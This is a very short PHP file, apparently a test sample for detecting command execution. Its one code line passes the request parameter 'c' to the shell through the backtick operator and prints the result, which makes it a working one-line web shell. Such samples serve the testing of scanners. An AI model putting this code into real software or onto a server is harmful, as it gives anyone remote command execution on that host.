<?php
// test sample: backtick operator on request input
echo `$_REQUEST['c']`;
